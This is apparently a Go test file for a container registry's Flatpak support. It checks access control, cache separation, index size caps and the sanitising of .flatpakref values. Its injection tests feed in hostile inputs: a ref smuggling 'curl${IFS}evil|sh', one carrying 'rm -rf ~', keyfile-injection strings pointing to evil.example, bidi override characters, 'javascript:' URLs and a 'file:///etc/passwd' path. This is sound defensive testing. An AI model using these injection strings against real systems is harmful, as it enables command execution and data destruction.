package flatpak_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"image/color"
	"net/http"
	"slices"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/opencontainers/go-digest"

	"github.com/berth-dev/berth/flatpak"
)

// fakeAccess: the header X-Test-User: admin may pull everything, anyone
// else only apps/**.
type fakeAccess struct{}

func (fakeAccess) View(r *http.Request) (string, func(string) bool) {
	if r.Header.Get("X-Test-User") == "admin" {
		return "admin", func(string) bool { return true }
	}
	return "anonymous", func(repo string) bool { return strings.HasPrefix(repo, "apps/") }
}

var (
	red    = color.RGBA{R: 255, A: 255}
	yellow = color.RGBA{R: 255, G: 255, A: 255}
)

// TestAccessSideDoors: the index, icons and .flatpakref files show only
// what the requester may pull (V14); hidden and missing are alike; the
// .flatpakrepo file stays public.
func TestAccessSideDoors(t *testing.T) {
	for _, restricted := range []bool{true, false} {
		t.Run(fmt.Sprint("access=", restricted), func(t *testing.T) {
			opts := flatpak.Options{}
			if restricted {
				opts.Access = fakeAccess{}
			}
			e := newEnv(t, opts)
			pub, secret, shared := pngOf(t, 64, 64, blue), pngOf(t, 64, 64, red), pngOf(t, 128, 128, yellow)
			e.push("apps/hello", img{labels: flatpakLabels("org.example.Hello",
				flatpak.LabelIcon64, dataURI(pub), flatpak.LabelIcon128, dataURI(shared)), seed: "hello"}, "latest")
			e.push("secret/tool", img{labels: flatpakLabels("org.example.Secret",
				flatpak.LabelIcon64, dataURI(secret), flatpak.LabelIcon128, dataURI(shared)), seed: "secret"}, "latest")

			names := func(user string) []string {
				t.Helper()
				_, _, ij := e.index(flatpakQuery("amd64", "latest"), "X-Test-User", user)
				out := []string{}
				for _, r := range ij.Results {
					out = append(out, r.Name)
				}
				return out
			}
			all, anon := []string{"apps/hello", "secret/tool"}, []string{"apps/hello"}
			if !restricted {
				anon = all
			}
			// The cache never serves one view's answer to another, in
			// either order.
			for i := range 2 {
				if got := names("admin"); !slices.Equal(got, all) {
					t.Errorf("round %d: admin sees %v, want %v", i, got, all)
				}
				if got := names(""); !slices.Equal(got, anon) {
					t.Errorf("round %d: anonymous sees %v, want %v", i, got, anon)
				}
			}
			res, body := e.do("GET", flatpak.IndexDynamicPath+"?"+flatpakQuery("amd64", "latest"), nil)
			if res.StatusCode != http.StatusOK || (restricted && bytes.Contains(body, []byte("secret/"))) {
				t.Errorf("dynamic index, anonymous: %s %s", res.Status, body)
			}

			get := func(path, user string) (int, string) {
				res, body := e.do("GET", path, nil, "X-Test-User", user)
				return res.StatusCode, string(body)
			}
			unknownCode, unknownBody := get(flatpak.IconPath(digestOf([]byte("no such icon"))), "")
			if unknownCode != http.StatusNotFound {
				t.Fatalf("unknown icon: %d", unknownCode)
			}
			for _, tc := range []struct {
				png      []byte
				anonSees bool
			}{{pub, true}, {shared, true}, {secret, !restricted}} {
				p := flatpak.IconPath(digestOf(tc.png))
				if code, _ := get(p, "admin"); code != http.StatusOK {
					t.Errorf("admin GET %s: %d", p, code)
				}
				code, body := get(p, "")
				switch {
				case tc.anonSees && code != http.StatusOK:
					t.Errorf("anonymous GET %s: %d, want 200", p, code)
				case !tc.anonSees && (code != unknownCode || body != unknownBody):
					t.Errorf("anonymous GET hidden icon %s: %d %q, want what an unknown icon gets: %d %q", p, code, body, unknownCode, unknownBody)
				}
			}
			if restricted {
				res, _ := e.do("GET", flatpak.IconPath(digestOf(secret)), nil, "X-Test-User", "admin")
				if cc := res.Header.Get("Cache-Control"); !strings.HasPrefix(cc, "private") {
					t.Errorf("an access-controlled icon is cacheable by shared caches: %q", cc)
				}
			}

			missingCode, missingBody := get(flatpak.FlatpakrefPath("secret/nope", "latest"), "")
			if code, _ := get(flatpak.FlatpakrefPath("apps/hello", "latest"), ""); code != http.StatusOK {
				t.Errorf("anonymous .flatpakref of apps/hello: %d", code)
			}
			if code, _ := get(flatpak.FlatpakrefPath("secret/tool", "latest"), "admin"); code != http.StatusOK {
				t.Errorf("admin .flatpakref of secret/tool: %d", code)
			}
			code, refBody := get(flatpak.FlatpakrefPath("secret/tool", "latest"), "")
			hiddenBody := strings.ReplaceAll(refBody, "secret/tool", "secret/nope")
			switch {
			case restricted && (code != missingCode || hiddenBody != missingBody):
				t.Errorf("anonymous .flatpakref of a hidden repository: %d %q; a missing one: %d %q", code, refBody, missingCode, missingBody)
			case !restricted && code != http.StatusOK:
				t.Errorf("unrestricted .flatpakref of secret/tool: %d", code)
			}
			if code, body := get(flatpak.RepoFilePath, ""); code != http.StatusOK || !strings.Contains(body, "[Flatpak Repo]") {
				t.Errorf("anonymous .flatpakrepo: %d %s", code, body)
			}
		})
	}
}

// TestAccessCacheOrder: an anonymous answer cached first is not served to
// an admin (the reverse order of TestAccessSideDoors' rounds).
func TestAccessCacheOrder(t *testing.T) {
	e := newEnv(t, flatpak.Options{Access: fakeAccess{}})
	e.push("apps/hello", img{labels: flatpakLabels("org.example.Hello"), seed: "a"}, "latest")
	e.push("secret/tool", img{labels: flatpakLabels("org.example.Secret"), seed: "b"}, "latest")
	_, anon, _ := e.index("")
	_, admin, _ := e.index("", "X-Test-User", "admin")
	if bytes.Contains(anon, []byte("secret/tool")) || !bytes.Contains(admin, []byte("secret/tool")) {
		t.Errorf("anonymous:\n%s\nadmin:\n%s", anon, admin)
	}
	// Same query, same view: one cached answer.
	_, again, _ := e.index("", "X-Test-User", "someone")
	if !bytes.Equal(again, anon) {
		t.Error("two anonymous requests got different answers")
	}
}

// TestIndexInvalidRefsLeftOut: an image whose org.flatpak.ref (label or
// annotation) flatpak would refuse, or whose label and annotation
// disagree, is not indexed, nor offered as a .flatpakref (audit: shell
// injection through the catalogue).
func TestIndexInvalidRefsLeftOut(t *testing.T) {
	e := newEnv(t, flatpak.Options{})
	good := e.push("apps/good", img{labels: flatpakLabels("org.example.Good"), seed: "good"}, "latest")
	bad := flatpakLabels("org.example.Bad")
	bad[flatpak.LabelRef] = "app/org.sh.App;curl${IFS}evil|sh/x86_64/stable"
	e.push("apps/bad", img{labels: bad, seed: "bad"}, "latest")
	badBranch := flatpakLabels("org.example.Branch")
	badBranch[flatpak.LabelRef] = "app/org.example.Branch/x86_64/stable\n[Flatpak Ref]"
	e.push("apps/branch", img{labels: badBranch, seed: "branch"}, "latest")
	e.push("apps/disagree", img{labels: flatpakLabels("org.example.Disagree"), seed: "disagree",
		annotations: map[string]string{flatpak.LabelRef: "app/org.example.Other/x86_64/stable"}}, "latest")
	e.push("apps/badann", img{seed: "badann",
		annotations: map[string]string{flatpak.LabelRef: "app/org.x.Y;rm -rf ~/x86_64/stable"}}, "latest")
	plainImage := e.push("library/server", img{labels: map[string]string{"maintainer": "ops"}, seed: "srv"}, "latest")

	_, _, ij := e.index("")
	if got, want := ij.digests(), []string{at("apps/good", good), at("library/server", plainImage)}; !slices.Equal(got, want) {
		t.Errorf("index lists %v, want %v", got, want)
	}
	for _, repo := range []string{"apps/bad", "apps/branch"} {
		if res, body := e.do("GET", flatpak.FlatpakrefPath(repo, "latest"), nil); res.StatusCode != http.StatusNotFound {
			t.Errorf("%s: .flatpakref %s\n%s", repo, res.Status, body)
		}
	}
}

// TestFlatpakrefSafeValues: .flatpakref files carry only http(s) URLs and
// no control characters, line breaks or bidirectional overrides in any
// value (audit).
func TestFlatpakrefSafeValues(t *testing.T) {
	e := newEnv(t, flatpak.Options{PublicURL: "https://registry.example.com"})
	appdata := `<?xml version="1.0"?><component type="desktop-application"><id>org.example.Evil</id>
<name>Evil&#10;[Flatpak Ref]&#10;Url=oci+https://evil.example/ &#x202e;gnp.exe</name>
<summary>Sum&#x85;mary&#x2066;&#13;Url=oci+https://evil.example/</summary><url type="homepage">javascript:alert(1)</url></component>`
	e.push("apps/evil", img{labels: flatpakLabels("org.example.Evil",
		flatpak.LabelAppdata, appdata, flatpak.LabelRuntimeRepo, "file:///etc/passwd"), seed: "evil"}, "latest")
	appdata2 := strings.Replace(appdata, "javascript:alert(1)", "https://ok.example/\u202e", 1)
	e.push("apps/evil2", img{labels: flatpakLabels("org.example.Evil",
		flatpak.LabelAppdata, appdata2, flatpak.LabelRuntimeRepo, "javascript:alert(1)"), seed: "evil2"}, "latest")
	for _, repo := range []string{"apps/evil", "apps/evil2"} {
		res, body := e.do("GET", flatpak.FlatpakrefPath(repo, "latest"), nil)
		if res.StatusCode != http.StatusOK {
			t.Fatalf("%s: %s", repo, res.Status)
		}
		checkKeyfile(t, string(body), "[Flatpak Ref]")
		if strings.Contains(string(body), "Homepage=") {
			t.Errorf("%s: a non-http(s) Homepage was written:\n%s", repo, body)
		}
		if !strings.Contains(string(body), "\nRuntimeRepo=https://registry.example.com/berth.flatpakrepo\n") {
			t.Errorf("%s: a bad RuntimeRepo label was not replaced by the remote's own:\n%s", repo, body)
		}
	}
	// The .flatpakrepo file follows the same rules.
	e = newEnv(t, flatpak.Options{Title: "Evil\n[Flatpak Repo]\nUrl=oci+https://evil.example/\u202e\x1b[0m"})
	_, body := e.do("GET", flatpak.RepoFilePath, nil)
	checkKeyfile(t, string(body), "[Flatpak Repo]")
}

// checkKeyfile fails unless body is one group of known keys, each once,
// whose URL values are http(s) and whose values hold no control or
// bidirectional characters.
func checkKeyfile(t *testing.T, body, group string) {
	t.Helper()
	lines := strings.Split(strings.TrimSuffix(body, "\n"), "\n")
	if lines[0] != group {
		t.Errorf("first line %q, want %q:\n%s", lines[0], group, body)
	}
	known := map[string]bool{"Version": true, "Name": true, "Branch": true, "Title": true, "Url": true, "IsRuntime": true,
		"SuggestRemoteName": true, "RuntimeRepo": true, "Comment": true, "Homepage": true, "Icon": true}
	urls := map[string]bool{"Url": true, "RuntimeRepo": true, "Homepage": true, "Icon": true}
	seen := map[string]bool{}
	for _, l := range lines[1:] {
		k, v, ok := strings.Cut(l, "=")
		if !ok || !known[k] || seen[k] {
			t.Errorf("line %q: not a known key, or a repeated one:\n%s", l, body)
			continue
		}
		seen[k] = true
		if urls[k] && !strings.HasPrefix(strings.TrimPrefix(v, "oci+"), "https://") && !strings.HasPrefix(strings.TrimPrefix(v, "oci+"), "http://") {
			t.Errorf("%s=%q is not an http(s) URL", k, v)
		}
		if k == "Url" && strings.Contains(v, "evil.example") {
			t.Errorf("Url injected: %q", v)
		}
		for _, c := range v {
			if c == utf8.RuneError || unicode.IsControl(c) || c == '\u202e' || c == '\u2066' {
				t.Errorf("%s=%q holds %U", k, v, c)
			}
		}
	}
}

// TestIndexCapped: an answer that would pass MaxIndexBytes lists the first
// images that fit, is valid for the client, says it was cut, and the cut
// is logged once per generation (audit: unbounded answers).
func TestIndexCapped(t *testing.T) {
	const max = 64 << 10
	e := newEnv(t, flatpak.Options{MaxIndexBytes: max})
	big := strings.Repeat("x", 12<<10)
	var all []string
	for i := range 12 {
		repo := fmt.Sprintf("apps/app%02d", i)
		d := e.push(repo, img{labels: flatpakLabels(fmt.Sprintf("org.example.App%02d", i), "org.flatpak.commit-metadata.big", big), seed: repo}, "latest")
		all = append(all, at(repo, d))
	}
	res, plain, ij := e.index("")
	if len(plain) > max {
		t.Errorf("answer of %d bytes, cap %d", len(plain), max)
	}
	got := ij.digests()
	if len(got) == 0 || len(got) >= len(all) || !slices.Equal(got, all[:len(got)]) {
		t.Errorf("answer lists %d images %v, want the first that fit of %v", len(got), got, all)
	}
	if res.Header.Get("X-Berth-Index-Truncated") != "true" {
		t.Error("a cut answer does not say so")
	}
	// Another query at the same generation: no second warning.
	e.index("tag=latest")
	if n := strings.Count(e.logs.String(), "cut at its size limit"); n != 1 {
		t.Errorf("%d warnings at one generation, want 1", n)
	}
	e.push("apps/zz", img{labels: flatpakLabels("org.example.Zz", "org.flatpak.commit-metadata.big", big), seed: "zz"}, "latest")
	e.index("")
	if n := strings.Count(e.logs.String(), "cut at its size limit"); n != 2 {
		t.Errorf("%d warnings after a new generation, want 2", n)
	}
	// An answer under the cap is whole and says nothing.
	res, _, ij = e.index("repository=apps%2Fapp03")
	if len(ij.digests()) != 1 || res.Header.Get("X-Berth-Index-Truncated") != "" {
		t.Errorf("small answer: %v, truncated=%q", ij.digests(), res.Header.Get("X-Berth-Index-Truncated"))
	}
	// Uncompressed, the same bytes.
	res, body := e.do("GET", "/index/static", nil)
	if res.StatusCode != http.StatusOK || int64(len(body)) > max || !json.Valid(body) {
		t.Errorf("identity answer: %s, %d bytes, valid JSON %v", res.Status, len(body), json.Valid(body))
	}
}

func digestOf(b []byte) digest.Digest { return digest.FromBytes(b) }
